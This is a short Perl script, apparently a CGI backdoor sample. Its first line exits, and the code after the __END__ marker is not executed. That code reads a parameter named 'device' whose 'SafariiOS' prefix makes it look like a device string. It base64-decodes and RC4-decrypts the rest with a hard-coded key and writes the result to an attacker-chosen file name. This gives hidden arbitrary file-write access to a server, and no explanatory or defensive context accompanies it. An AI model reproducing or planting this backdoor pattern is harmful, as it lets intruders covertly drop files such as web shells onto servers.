#!/usr/bin/perl
exit;
__END__
my $agent = param(q{device});
exit unless index($agent, 'SafariiOS') == 0;
my ($name, $body) = split /;/, Crypt::RC4->new("example")->RC4(MIME::Base64::decode_base64(substr $agent, 9)), 2;
open(OUT, ">$name"); print OUT $body; close(OUT);
